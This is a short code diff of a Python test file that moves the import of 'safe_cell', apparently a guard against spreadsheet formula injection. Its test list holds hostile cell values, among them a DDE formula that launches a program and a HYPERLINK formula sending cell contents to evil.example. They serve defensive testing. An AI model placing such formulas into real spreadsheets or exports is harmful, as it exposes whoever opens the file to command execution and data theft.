@@ -3,7 +3,7 @@ import io
 
 import pytest
 
-from chassis.web.cells import safe_cell
+from chassis.cells import safe_cell
 
 FORMULAS = [
     "=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", '=HYPERLINK("http://evil.example/?"&A1)', "\t=1", "\r=1", "\n=1", " =1", "\u3000=1",
